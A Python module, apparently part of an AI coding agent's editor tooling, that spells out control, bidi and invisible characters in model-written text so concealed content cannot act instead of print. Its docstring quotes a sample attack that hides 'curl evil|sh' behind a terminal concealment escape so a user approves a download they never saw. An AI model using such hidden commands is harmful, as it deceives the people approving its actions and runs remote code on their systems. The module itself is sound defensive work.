"""Model-written text made safe to show: nothing in it may act instead of print.

A terminal obeys escape sequences (``ESC [8m`` conceals what follows, so
``git fetch #<ESC>[8m<newline>curl evil|sh`` shows as ``git fetch #`` and the user
allows a download they never saw); ``\\r`` moves back over what was printed; bidi
controls reorder what an editor shows (Trojan Source). :func:`escape_control`
replaces each such character by a visible, printable spelling, so what the user
reads is what will run. The same rules are written out in each editor client
(VS Code ``display.ts``, Neovim ``format.lua``, Emacs ``agent-lsp-escape-control``).

The output holds no character it would replace, so escaping twice changes nothing:
the server escapes what it sends for display, and a client may escape it again.
A backslash is left as it is (so ``\\e`` typed by the model looks like an escaped
ESC): escaping it would break that idempotence, and it hides nothing.
"""

from __future__ import annotations

import re

NEWLINE_MARK = "⏎"

# Bidi overrides, embeddings and isolates, zero-width and invisible formatting characters.
_INVISIBLE = [0x061C, *range(0x200B, 0x2010), *range(0x202A, 0x202F)]
_INVISIBLE += [*range(0x2060, 0x2065), *range(0x2066, 0x206A), 0xFEFF]


def _table(*, keep_newlines: bool) -> dict[int, str]:
    table = {code: f"\\x{code:02x}" for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]}
    table |= {code: f"\\u{code:04x}" for code in _INVISIBLE}
    table |= {0x1B: "\\e", ord("\r"): "\\r", ord("\n"): NEWLINE_MARK}
    del table[ord("\t")]
    if keep_newlines:
        del table[ord("\n")]
    return table


def _pattern(table: dict[int, str]) -> re.Pattern[str]:
    return re.compile("[" + "".join(re.escape(chr(code)) for code in sorted(table)) + "]")


# A character class finds what to replace several times faster than str.translate with a
# table of strings would (this runs on every trace line and every streamed answer piece).
_ONE_LINE = _table(keep_newlines=False)
_LINES = _table(keep_newlines=True)
_ONE_LINE_RE, _LINES_RE = _pattern(_ONE_LINE), _pattern(_LINES)


def escape_control(text: str, *, keep_newlines: bool = False) -> str:
    """``text`` with every control, bidi and invisible formatting character spelled out:
    ESC as ``\\e``, CR as ``\\r``, a newline as ``⏎`` (kept with ``keep_newlines``), other
    C0/DEL/C1 controls as ``\\xNN``, the rest as ``\\uXXXX``; tabs stay."""
    table, pattern = (_LINES, _LINES_RE) if keep_newlines else (_ONE_LINE, _ONE_LINE_RE)
    return pattern.sub(lambda match: table[ord(match[0])], text)
